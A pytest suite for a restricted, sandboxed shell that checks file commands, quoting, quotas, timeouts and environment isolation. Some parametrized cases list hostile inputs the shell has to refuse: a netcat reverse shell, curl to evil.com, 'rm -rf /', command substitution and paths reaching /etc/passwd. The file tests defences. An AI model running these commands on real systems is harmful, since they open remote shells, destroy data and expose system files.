"""The requirements of the shell, one by one."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from carrel.shell.budget import Budget
from carrel.shell.language.pattern import PatternSegment, matcher
from carrel.shell.result import ShellResult
from carrel.shell.runtime.shell import BareShell
from carrel.values import Limits
from carrel.workspace.workspace import Workspace
from tests.requirements import requirement

FIVE = b"".join(b"line%d\n" % number for number in range(1, 6))


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    top = tmp_path / "workspace"
    top.mkdir()
    with Workspace.open(top) as opened:
        opened.write("a.py", "x=1\nprint(x)\n")
        opened.write("lib/b.py", "y\n")
        opened.write("log.txt", "Error one\nok\nERROR two\n")
        opened.write(".h", "")
        opened.write("my file.txt", "spaces\n")
        opened.write("five.txt", FIVE)
        opened.write("bin", b"\xff\xfe")
        yield opened


@pytest.fixture
def shell(workspace: Workspace) -> BareShell:
    return BareShell(workspace)


def printed(shell: BareShell, line: str) -> str:
    """Return the output of *line*, which must succeed."""
    result = shell.run(line)
    assert (result.exit_code, result.stderr) == (0, b""), result
    return result.stdout.decode()


def failed(shell: BareShell, line: str) -> ShellResult:
    """Return the result of *line*, which must fail."""
    result = shell.run(line)
    assert result.exit_code != 0
    assert result.stdout == b""
    return result


@requirement("SH-01")
def test_ls_sorts_names_and_leaves_hidden_ones_out(shell: BareShell) -> None:
    assert printed(shell, "ls") == "a.py\nbin\nfive.txt\nlib\nlog.txt\nmy file.txt\n"


@requirement("SH-02")
def test_ls_in_long_format_sorts_by_name(shell: BareShell) -> None:
    names = [line.split(maxsplit=8)[-1] for line in printed(shell, "ls -la").splitlines()[1:]]
    assert names == sorted(names)
    assert {".", "..", ".h", "lib"} <= set(names)


@requirement("SH-03")
def test_ls_of_a_file_prints_its_name(shell: BareShell) -> None:
    assert printed(shell, "ls a.py") == "a.py\n"
    assert printed(shell, "ls /workspace/a.py") == "/workspace/a.py\n"


@requirement("SH-04")
def test_cat_prints_content_as_it_is_of_all_files(shell: BareShell) -> None:
    assert printed(shell, "cat a.py log.txt") == "x=1\nprint(x)\nError one\nok\nERROR two\n"
    assert shell.run("cat bin").stdout == b"\xff\xfe"
    assert printed(shell, 'cat "my file.txt"') == "spaces\n"


@requirement("SH-05")
def test_head_and_tail_print_so_many_lines(shell: BareShell) -> None:
    assert printed(shell, "head -n 3 five.txt") == "line1\nline2\nline3\n"
    assert printed(shell, "head -2 five.txt") == "line1\nline2\n"
    assert printed(shell, "tail -n 2 five.txt") == "line4\nline5\n"
    assert b"invalid number of lines" in failed(shell, "head -n x five.txt").stderr


@requirement("SH-06")
def test_wc_obeys_its_options(shell: BareShell) -> None:
    assert printed(shell, "wc log.txt").split() == ["3", "5", "23", "log.txt"]
    assert printed(shell, "wc -l log.txt") == "3 log.txt\n"
    assert printed(shell, "wc -w log.txt") == "5 log.txt\n"
    assert printed(shell, "wc -c log.txt") == "23 log.txt\n"


@requirement("SH-07")
def test_directories_and_files_are_created(shell: BareShell) -> None:
    printed(shell, "mkdir -p subdir/nested")
    printed(shell, "touch subdir/nested/file.txt")
    assert printed(shell, "ls subdir/nested") == "file.txt\n"
    assert b"File exists" in failed(shell, "mkdir subdir").stderr


@requirement("SH-08")
def test_cp_and_mv_keep_the_content(shell: BareShell) -> None:
    printed(shell, "cp log.txt copy.txt")
    printed(shell, "mv copy.txt moved.txt")
    assert printed(shell, "cat moved.txt") == printed(shell, "cat log.txt")
    failed(shell, "cat copy.txt")
    printed(shell, "cp a.py lib")
    printed(shell, "mv log.txt lib")
    printed(shell, "cp -r lib lib2")
    assert printed(shell, "ls lib2") == "a.py\nb.py\nlog.txt\n"


@requirement("SH-09")
def test_touch_sets_the_time_of_what_is_there(shell: BareShell, workspace: Workspace) -> None:
    workspace.touch("a.py", modified_ns=10**18)
    printed(shell, "touch a.py")
    assert workspace.stat("a.py").modified_ns > 10**18


@requirement("SH-10")
def test_rm_removes_a_tree_only_with_r(shell: BareShell, workspace: Workspace) -> None:
    failed(shell, "rm lib")
    assert b"Directory not empty" in failed(shell, "rmdir lib").stderr
    assert workspace.exists("lib/b.py")
    printed(shell, "rm -rf lib")
    assert not workspace.exists("lib")
    printed(shell, "rm -f missing")
    failed(shell, "rm -rf /")
    assert workspace.exists("a.py")


@requirement("SH-11")
def test_pwd_is_the_path_that_every_command_understands(shell: BareShell) -> None:
    assert printed(shell, "pwd") == "/workspace\n"
    printed(shell, "cd lib")
    where = printed(shell, "pwd").strip()
    assert where == "/workspace/lib"
    printed(shell, "cd /workspace")
    printed(shell, f"cd {where}")
    assert printed(shell, f"cat {where}/b.py") == printed(shell, "cat b.py") == "y\n"


@requirement("SH-12")
def test_echo_prints_its_arguments(shell: BareShell) -> None:
    assert printed(shell, 'echo "Hello World"') == "Hello World\n"
    assert printed(shell, "echo -n hi") == "hi"
    assert printed(shell, "echo 'a\tb'") == "a\tb\n"


@requirement("SH-13")
def test_grep_has_patterns_options_and_a_status(shell: BareShell, workspace: Workspace) -> None:
    workspace.write("data.txt", "Hello 1\nfoo bar\nHello 2\n")
    workspace.write("cases.txt", "HELLO\nhello\nHeLLo\n")
    assert printed(shell, "grep Hello data.txt") == "Hello 1\nHello 2\n"
    assert printed(shell, "grep -i hello cases.txt") == "HELLO\nhello\nHeLLo\n"
    assert printed(shell, "grep -n Err.r log.txt") == "1:Error one\n"
    assert printed(shell, "grep -rl y .") == "./lib/b.py\n"
    assert failed(shell, "grep nope log.txt").exit_code == 1


@requirement("SH-14")
def test_find_matches_whole_names_and_follows_no_link(shell: BareShell, tmp_path: Path) -> None:
    (tmp_path / "workspace" / "loop").symlink_to(".")
    assert printed(shell, 'find . -name "*.py"') == "./a.py\n./lib/b.py\n"
    assert printed(shell, "find . -name py") == ""
    found = printed(shell, "find .").splitlines()
    assert "./.h" in found
    assert "./loop" in found
    assert not [path for path in found if path.startswith("./loop/")]


@requirement("SH-15", "XT-01")
@pytest.mark.parametrize(
    "line",
    [
        "curl http://evil.com",
        "wget x",
        "bash -c 'echo pwned'",
        "nc -e /bin/sh 1.2.3.4 4444",
        "LS",
        "/bin/cat x",
    ],
)
def test_a_program_of_the_host_is_not_allowed(shell: BareShell, line: str) -> None:
    result = failed(shell, line)
    assert result.exit_code == 127
    assert b"not allowed" in result.stderr
    assert b"not found" in result.stderr


@requirement("SH-16", "XT-02")
@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("ls | cat /etc/passwd", "|"),
        ("ls; rm -rf /", ";"),
        ("ls && echo pwned", "&&"),
        ("ls || echo fallback", "||"),
        ("echo $(whoami)", "$("),
        ("echo `id`", "`"),
        ("echo a > b", ">"),
        ("cat < b", "<"),
        ("echo a >> b", ">>"),
        ("ls\nrm a.py", "\\n"),
        ("ls\rrm a.py", "\\r"),
        ("echo a & echo b", "&"),
    ],
)
def test_every_metacharacter_is_refused_and_named(shell: BareShell, line: str, sign: str) -> None:
    result = failed(shell, line)
    assert result.exit_code == 2
    assert result.stderr.decode().startswith(f"Shell metacharacter not allowed: {sign} ")


@requirement("SH-17", "XT-03")
@pytest.mark.parametrize("line", ["", "   ", "\t"])
def test_an_empty_command_is_an_error(shell: BareShell, line: str) -> None:
    assert failed(shell, line).stderr == b"Empty command\n"


@requirement("XT-03")
def test_an_unclosed_quote_is_an_error(shell: BareShell) -> None:
    assert b"quoting" in failed(shell, "echo 'a").stderr


@requirement("SH-18")
@pytest.mark.parametrize(
    "path", ["../../../etc/passwd", "/etc/passwd", "lib/../../x", "/workspace/../etc/passwd"]
)
def test_no_path_escapes(shell: BareShell, path: str) -> None:
    message = failed(shell, f"cat {path}").stderr
    assert b"escapes" in message or b"outside workspace" in message


@requirement("SH-19")
@pytest.mark.parametrize(
    ("pattern", "name", "matches"),
    [
        ("*.txt", "file.txt", True),
        ("file.*", "file.txt", True),
        ("*.py", "test.py", True),
        ("*.txt", "file.py", False),
        ("?.py", "a.py", True),
        ("?.py", "ab.py", False),
        ("*a*a*a*a*a*a*a*a*a*ab", "a" * 250, False),
    ],
)
def test_a_glob_matches_whole_names_in_linear_time(pattern: str, name: str, matches: bool) -> None:
    assert matcher([PatternSegment(pattern, False)])(name) is matches


@requirement("SH-20", "XT-04")
def test_a_command_that_takes_too_long_is_stopped(shell: BareShell) -> None:
    result = shell.run("sleep 60", budget=Budget(seconds=0.01))
    assert (result.exit_code, result.error_code) == (124, "limit.time")
    assert b"timed out after 0.01s" in result.stderr


@requirement("SH-21")
@pytest.mark.parametrize("line", ["cp big copy", "tee copy", "sort -o copy big", "cp big copy; echo"])
def test_every_command_that_writes_meets_the_quota(tmp_path: Path, line: str) -> None:
    with Workspace.open(tmp_path, limits=Limits(disk_bytes=1000)) as workspace:
        workspace.write("big", bytes(600))
        result = BareShell(workspace, pipelines=True).run(line.removesuffix("; echo"), stdin=bytes(600))
        assert result.exit_code != 0
        assert b"quota exceeded" in result.stderr
        assert workspace.usage().disk_bytes == 600


@requirement("SH-22")
def test_variables_are_exported(shell: BareShell) -> None:
    assert "PATH=" in printed(shell, "env")
    printed(shell, "export X=hello123")
    assert "X=hello123\n" in printed(shell, "env")


@requirement("SH-23")
def test_a_missing_directory_is_reported(shell: BareShell) -> None:
    assert failed(shell, "cd missing").stderr == b"cd: missing: No such file or directory\n"


@requirement("SH-24")
@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("echo   -la \t /tmp", "-la /tmp"),
        ('echo "hello"" world"', "hello world"),
        ("echo hello\\ world", "hello world"),
        ('echo "hello \\"world\\""', 'hello "world"'),
        ("echo 'a\\nb'", "a\\nb"),
        ('echo commit -m "initial commit"', "commit -m initial commit"),
    ],
)
def test_quotes_and_blanks_are_read_as_in_a_shell(shell: BareShell, line: str, words: str) -> None:
    assert printed(shell, line) == f"{words}\n"


@requirement("SH-25")
def test_nothing_is_cut_short_in_silence(shell: BareShell, workspace: Workspace) -> None:
    workspace.write("large", "x" * 200_000)
    assert len(printed(shell, "cat large")) == 200_000
    assert len(printed(shell, "echo " + "y" * 100_000)) == 100_001


@requirement("XT-05")
def test_streams_and_status_are_told_apart(shell: BareShell) -> None:
    result = shell.run("cat a.py missing")
    assert not result.success
    assert (result.stdout, result.stderr) == (
        b"x=1\nprint(x)\n",
        b"cat: missing: No such file or directory\n",
    )


@requirement("XT-06")
def test_nothing_of_the_environment_of_the_host_is_visible(
    shell: BareShell, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_TOKEN", "s3cret")
    assert "s3cret" not in printed(shell, "env")
    assert printed(shell, "echo $HOME") == "/workspace\n"
